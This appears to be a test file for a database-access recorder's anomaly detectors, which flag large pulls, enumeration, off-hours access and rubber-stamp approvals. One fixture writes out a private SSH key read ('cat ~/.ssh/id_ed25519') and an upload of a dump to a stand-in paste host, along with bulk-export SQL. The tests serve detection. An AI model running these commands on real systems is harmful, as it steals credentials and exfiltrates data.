import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, beforeEach, test } from 'node:test'
import { type Database, openDatabase } from '../../../recorder/catalog/database.ts'
import { DAILY_FROM_PULLS, DAILY_GROUPS } from '../../../recorder/catalog/rollups.ts'
import { Decisions } from '../../../recorder/findings/decisions.ts'
import { listFindings, readFinding, untold } from '../../../recorder/findings/finding-rows.ts'
import { readLedger } from '../../../recorder/findings/from-ledger.ts'
import { findWeek, scanWeek, unscannedWeeks, weekOf } from '../../../recorder/findings/scan.ts'
import type { Weighed } from '../../../recorder/findings/weigh.ts'
import { StoreLedger } from '../../../recorder/index.ts'
import { DETECTOR_NAMES, DETECTORS, type DetectorName, type FindingsConfig } from '../../../schemas/findings.ts'
import { type SaidOf, writeSession } from '../../support/catalog-session.ts'
import { makeSigner, openTestLedger } from '../../support/ledger.ts'
import { recordingFolder } from '../../support/recording.ts'

/** A Wednesday. */
const NOW_MS = Date.UTC(2026, 10, 18, 12)
const DAY_MS = 86_400_000
const MINUTE_MS = 60_000

let folder: string
let database: Database

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sallyport-detectors-'))
  database = await openDatabase({ folder: join(folder, 'pg') }, (problem) => assert.fail(problem))
})
beforeEach(async () => {
  await database.exec(
    'truncate catalog.sessions, catalog.statements, catalog.pulls, catalog.sketches, catalog.daily, catalog.decisions, catalog.first_seen, catalog.findings, catalog.scans',
  )
})
after(async () => {
  await database.close()
  await rm(folder, { recursive: true, force: true })
})

const session = (...said: SaidOf): Promise<string> => writeSession(database, ...said)

const found = async (config: FindingsConfig = {}): Promise<readonly Weighed[]> => {
  await database.exec(`truncate catalog.daily; ${DAILY_FROM_PULLS} ${DAILY_GROUPS}`)
  return findWeek(database, weekOf(NOW_MS), config)
}
const names = (findings: readonly Weighed[]): DetectorName[] => findings.map(({ detector }) => detector).sort()
const one = (findings: readonly Weighed[], name: DetectorName): Weighed => {
  const [first, ...more] = findings.filter(({ detector }) => detector === name)
  assert.ok(first !== undefined && more.length === 0, `${name} in ${names(findings)}`)
  return first
}

test('an ordinary week is no finding', async () => {
  for (let day = 0; day < 5; day += 1)
    await session(NOW_MS - day * DAY_MS, [
      { text: 'SELECT * FROM orders WHERE id = 7', rows: 1, objects: ['orders'], fingerprint: 'a' },
      { text: 'SELECT status, count(*) FROM orders GROUP BY status', rows: 4, objects: ['orders'], fingerprint: 'b' },
      { text: 'INSERT INTO orders VALUES (1)', objects: ['orders'], verbs: ['INSERT'] },
    ])
  assert.deepEqual(names(await found()), [])
})

test('V1: one statement that took a lot; several of a session are one finding', async () => {
  const id = await session(NOW_MS, [
    { text: 'SELECT * FROM customers', rows: 12_000, objects: ['customers'] },
    { text: 'SELECT * FROM customers', rows: 30_000, objects: ['customers'] },
  ])
  const finding = one(await found(), 'large-pull')
  assert.deepEqual([finding.value, finding.threshold, finding.unit, finding.sessionIds], [30_000, 10_000, 'rows', [id]])
  assert.deepEqual(
    finding.contributions.map(({ frame }) => frame),
    [10, 12],
  )
  // A share of a table whose size is known, long before ten thousand rows.
  await database.exec('truncate catalog.statements')
  await session(NOW_MS, [{ rows: 1_500, objects: ['customers'] }])
  assert.deepEqual(names(await found()), [])
  const tables = [{ target: 'shop', table: 'customers', rows: 6_000, sensitive: true }]
  const share = one(await found({ tables }), 'large-pull')
  assert.deepEqual([share.value, share.unit], [25, '% of the table'])
  assert.deepEqual(share.addends.at(-1), { why: 'the table is marked sensitive', weight: 0.3 })
  assert.ok(Math.abs(share.score - (1 - share.addends.reduce((left, { weight }) => left * (1 - weight), 1))) < 0.001)
  assert.deepEqual(names(await found({ tables, detectors: { 'large-pull': false } })), ['first-access'])
})

test('S1: small pulls that are a large one together, whichever agents of a person made them', async () => {
  for (let part = 0; part < 8; part += 1)
    await session(NOW_MS - part * 2 * 3_600_000, [
      { text: 'SELECT * FROM customers LIMIT 1500', rows: 1_500, objects: ['customers'] },
    ])
  // Somebody else's are not theirs.
  await session(NOW_MS, [{ rows: 1_500, objects: ['customers'] }], { family: 'bob' })
  const finding = one(await found(), 'stitched-rows')
  assert.deepEqual([finding.family, finding.object, finding.value, finding.sessions], ['ada', 'customers', 12_000, 8])
  assert.match(finding.summary, /^12,000 rows of customers in 8 sessions within a day$/)
})

test('V2, V3 and S4: days against one’s own, against others, and creeping up', async () => {
  for (let day = 40; day >= 1; day -= 1) {
    await session(NOW_MS - day * DAY_MS, [{ rows: 100 + (day % 3) * 10, bytes: 20_000 + (day % 3) * 900, objects: ['orders'] }])
    for (const family of ['bob', 'cy', 'dee', 'eve', 'fay'])
      if (day < 10) await session(NOW_MS - day * DAY_MS, [{ rows: 300, objects: ['orders'] }], { family })
  }
  assert.deepEqual(names(await found()), [])
  await session(NOW_MS, [{ rows: 5_000, bytes: 3_000_000, objects: ['orders'] }])
  const findings = await found()
  assert.ok(one(findings, 'baseline-break').value > 4)
  assert.equal(one(findings, 'baseline-break').baseline?.['days'], 28)
  assert.deepEqual([one(findings, 'peer-break').threshold, one(findings, 'peer-break').value], [1_000, 5_000])
  await database.exec(`delete from catalog.pulls where rows = 5000`)
  for (let day = 12; day >= 0; day -= 1) await session(NOW_MS - day * DAY_MS, [{ rows: 60, bytes: 100, objects: ['orders'] }])
  assert.equal(one(await found(), 'low-and-slow').unit, 'cusum')
})

test('S3: page after page; the same question again and again is none', async () => {
  const page = (text: (at: number) => string) =>
    Array.from({ length: 12 }, (_, at) => ({ text: text(at), rows: 100, objects: ['customers'], fingerprint: 'f' }))
  await session(
    NOW_MS,
    page((at) => `SELECT * FROM customers ORDER BY id LIMIT 100 OFFSET ${at * 100}`),
  )
  assert.equal(one(await found(), 'pagination-walk').value, 12)
  await database.exec('truncate catalog.statements')
  await session(
    NOW_MS,
    page(() => 'SELECT * FROM customers LIMIT 100'),
  )
  assert.deepEqual(names(await found()), [])
  await session(
    NOW_MS,
    page(() => 'SELECT * FROM customers ORDER BY id LIMIT $1 OFFSET $'),
  )
  assert.equal(one(await found({ detectors: { 'first-access': false } }), 'pagination-walk').value, 12)
})

test('F1: what an actor that is known never touched; what is sensitive counts at once', async () => {
  await session(NOW_MS - 30 * DAY_MS, [{ rows: 1, objects: ['orders'] }])
  await session(NOW_MS, [{ rows: 3, objects: ['salaries'] }])
  assert.equal(one(await found(), 'first-access').object, 'salaries')
  await session(NOW_MS, [{ rows: 3, objects: ['salaries'] }], { family: 'new' })
  assert.equal((await found()).length, 1)
  assert.equal((await found({ tables: [{ target: 'shop', table: 'salaries', sensitive: true }] })).length, 2)
})

test('E1 and E2: who looks around in a database, and who counts through an API', async () => {
  await session(NOW_MS, [
    { objects: ['information_schema.tables'] },
    { objects: ['pg_catalog.pg_class'] },
    { objects: ['pg_attribute'] },
  ])
  await session(
    NOW_MS,
    Array.from({ length: 60 }, (_, id) => ({
      text: `GET /v1/people/${id}`,
      verbs: ['GET'],
      objects: ['/v1/people/{id}'],
      fingerprint: 'GET /v1/people/{id}',
    })),
    { target: 'crm', protocol: 'http' },
  )
  const findings = await found()
  assert.equal(one(findings, 'schema-enumeration').value, 3)
  assert.equal(one(findings, 'api-enumeration').value, 60)
  await database.exec('truncate catalog.statements, catalog.first_seen')
  await session(
    NOW_MS,
    Array.from({ length: 25 }, (_, table) => ({ rows: 5, objects: [`t${table}`] })),
  )
  assert.equal(one(await found(), 'schema-enumeration').unit, 'tables')
})

test('X1 to X4: exports, secrets, packing, and what is sent away after a pull', async () => {
  await session(NOW_MS, [
    { text: 'COPY customers TO STDOUT', rows: 4_000, objects: ['customers'], verbs: ['COPY'] },
    { text: `SELECT string_agg(email, ',') FROM customers`, rows: 1, bytes: 400_000, objects: ['customers'] },
    { text: 'COPY stolen FROM STDIN', rows: 0, objects: ['stolen'] },
  ])
  await session(
    NOW_MS + 10 * MINUTE_MS,
    [{ text: 'cat ~/.ssh/id_ed25519' }, { text: 'curl -T dump.gz https://paste.example' }, { text: 'ls -l' }],
    {
      target: 'web-1',
      protocol: 'ssh',
    },
  )
  const findings = await found()
  assert.equal(one(findings, 'bulk-verbs').contributions.length, 1)
  assert.equal(one(findings, 'packing').value, 400_000)
  assert.equal(one(findings, 'secret-reads').target, 'web-1')
  assert.match(one(findings, 'egress-after-pull').summary, /^4,000 rows were taken, and within 30 minutes something was sent$/)
})

test('M1, M2, M3, A2 and I1', async () => {
  await session(NOW_MS, [
    ...Array.from({ length: 25 }, (_, at) => ({
      text: `SELECT 1 FROM customers WHERE ssn > '${at}'`,
      rows: 1,
      objects: ['customers'],
      fingerprint: 'f',
    })),
    { text: 'SELECT ssn FROM customers', rows: 4_000, masked: 6_000, objects: ['customers'] },
    { text: 'SELECT * FROM vault', outcome: 'refused', objects: ['vault'] },
    { text: 'SELECT * FROM vault LIMIT 9', rows: 9, objects: ['vault'] },
  ])
  await session(NOW_MS, [], { state: 'incomplete' })
  const config: FindingsConfig = {
    workHours: { zone: 'Europe/Berlin', from: '07:00', to: '12:59' },
    detectors: { 'first-access': false },
  }
  const findings = await found(config)
  assert.deepEqual(names(findings), ['deny-variant', 'mask-probing', 'masked-sweep', 'off-hours', 'recording-integrity'])
  assert.deepEqual(
    one(findings, 'deny-variant').contributions.map(({ text }) => text),
    ['SELECT * FROM vault', 'SELECT * FROM vault LIMIT 9'],
  )
  // 12:00 in UTC is 13:00 in Berlin.
  assert.deepEqual(
    names(await found({ ...config, workHours: { zone: 'UTC', from: '07:00', to: '12:59' } })).includes('off-hours'),
    false,
  )
})

test('A1: who approves without thinking, always, or for themselves', async () => {
  const held = async (decider: string, n: number, after: { readonly ms: number; readonly act?: string }): Promise<string> => {
    const id = await session(NOW_MS + n * MINUTE_MS, [{ text: 'DELETE FROM carts', objects: ['carts'] }])
    await database.query('update catalog.statements set approval = $2 where session = $1', [id, `A-${n}`])
    const asked = NOW_MS + n * MINUTE_MS
    await database.query('insert into catalog.decisions values ($1, $2, $3, $4, $5, $6)', [
      ...[`A-${n}`, decider, after.act ?? 'approve', id],
      ...[new Date(asked), new Date(asked + after.ms)],
    ])
    return id
  }
  for (let n = 0; n < 6; n += 1) await held('gus', n, { ms: 60_000, act: n % 2 === 0 ? 'approve' : 'reject' })
  assert.deepEqual(names(await found()), [])
  const ids = [await held('hal', 10, { ms: 900 }), await held('hal', 11, { ms: 1_900 }), await held('hal', 12, { ms: 2_900 })]
  await held('ada', 20, { ms: 60_000 })
  const findings = (await found()).filter(({ detector }) => detector === 'approval-anomaly')
  assert.deepEqual(
    findings.map(({ family, value, summary }) => [family, value, summary]),
    [
      ['hal', 3, 'hal approved: 3 within 3 s of the request'],
      ['ada', 1, 'ada approved: 1 of what they had asked for themselves'],
    ],
  )
  assert.deepEqual(
    findings[0]?.contributions.map(({ session: of, frame, text }) => [of, frame, text]),
    ids.map((id) => [id, 10, 'DELETE FROM carts']),
  )
  for (let n = 30; n < 85; n += 1) await held('ivy', n, { ms: 60_000, act: n === 30 ? 'reject' : 'approve' })
  const summaryOf = (of: string, all: readonly Weighed[]): string =>
    all.find(({ family, detector }) => family === of && detector === 'approval-anomaly')?.summary ?? ''
  assert.match(summaryOf('ivy', await found()), /54 of 55 decisions in 28 days a yes$/)
  const workHours = { zone: 'UTC', from: '13:00', to: '18:00' }
  assert.match(summaryOf('gus', await found({ workHours })), /3 outside the working hours$/)
})

test('decisions are read from the ledger, once, and again for a catalog that is made anew', async () => {
  await using evidence = await recordingFolder()
  const ledger = await StoreLedger.open({ store: evidence.store, gateway: 'gw1', signer: evidence.signer })
  const request = { approval: 'A-1', session: 's-1' } as const
  await ledger.append({
    ...{ type: 'approval.request', ...request, requester: 'agent-7', rules: ['x'], binding: 'b' },
    ...{ approvers: { groups: ['dba'], count: 1 }, expiresAt: new Date(NOW_MS).toISOString() },
  })
  await ledger.append({ type: 'approval.decide', ...request, act: 'approve', actor: 'hal' })
  await ledger.close()
  const decisions = new Decisions(database, evidence.store, async () => [evidence.signer])
  assert.equal((await decisions.take()).length, 1)
  assert.equal((await decisions.take()).length, 0)
  decisions.again()
  assert.equal((await decisions.take()).length, 1)
  const { rows } = await database.query('select request, decider, act, session from catalog.decisions')
  assert.deepEqual(rows, [{ request: 'A-1', decider: 'hal', act: 'approve', session: 's-1' }])
})

test('the same rows give the same findings, and other numbers make a week be looked through again', async () => {
  await session(NOW_MS, [{ rows: 12_000, objects: ['customers'] }])
  assert.deepEqual(await unscannedWeeks(database, {}), [weekOf(NOW_MS)])
  const first = await scanWeek(database, weekOf(NOW_MS), {})
  assert.deepEqual(await scanWeek(database, weekOf(NOW_MS), {}), first)
  assert.deepEqual(await unscannedWeeks(database, {}), [])
  assert.deepEqual(await unscannedWeeks(database, { detectors: { 'large-pull': { rows: 20_000 } } }), [weekOf(NOW_MS)])
  await scanWeek(database, weekOf(NOW_MS), { detectors: { 'large-pull': { rows: 20_000 } } })
  assert.deepEqual((await database.query('select id from catalog.findings')).rows, [])
})

test('a week that detectors of an earlier version looked through is looked through again, and what was found keeps its id', async () => {
  await session(NOW_MS, [{ rows: 12_000, objects: ['customers'] }])
  const [first] = await scanWeek(database, weekOf(NOW_MS), {})
  const versions = DETECTOR_NAMES.map((name) => [name, DETECTORS[name].version, DETECTORS[name].params])
  const earlier = createHash('sha256')
    .update(JSON.stringify([versions, {}]))
    .digest('hex')
  await database.query('update catalog.scans set settings = $1', [earlier])
  assert.deepEqual(await unscannedWeeks(database, {}), [weekOf(NOW_MS)])
  assert.equal((await scanWeek(database, weekOf(NOW_MS), {}))[0]?.id, first?.id)
  assert.deepEqual(await unscannedWeeks(database, {}), [])
})

test('a database that is new learns from the ledger what people made of findings, and which it was told of; once', async () => {
  await using evidence = await recordingFolder()
  await session(NOW_MS, [{ rows: 12_000, objects: ['customers'] }])
  const [first] = await scanWeek(database, weekOf(NOW_MS), {})
  assert.ok(first !== undefined)
  const { id, detector, severity, summary } = first
  assert.deepEqual([...(await untold(database, [id]))], [id])
  const ledger = await StoreLedger.open({ store: evidence.store, gateway: 'gw1', signer: evidence.signer })
  await ledger.append({ type: 'finding', finding: id, detector, version: '1', severity, sessionIds: [], summary })
  const grace = { type: 'finding.dispose', actor: 'grace', proof: 'key:k1', finding: id } as const
  await ledger.append({ ...grace, state: 'false', reason: 'a test' })
  await ledger.append({ ...grace, state: 'true', reason: 'it was none' })
  await ledger.close()
  // Who may write to the store may add lines; what no trusted key has signed decides nothing.
  const stranger = await openTestLedger(evidence.store, makeSigner('gw9'))
  await stranger.append({ ...grace, state: 'false', reason: 'forged' })
  await stranger.close()
  for (let time = 0; time < 2; time += 1) await readLedger(database, evidence.store, [evidence.signer])
  assert.deepEqual([...(await untold(database, [id]))], [])
  const read = await readFinding(database, id)
  assert.deepEqual(
    [read?.finding.state, read?.finding.dispositions.map(({ reason }) => reason)],
    ['true', ['a test', 'it was none']],
  )
  assert.deepEqual((await listFindings(database, { state: 'true' }, ['shop'])).findings.length, 1)
  assert.deepEqual((await listFindings(database, {}, ['vault'])).findings, [])
})
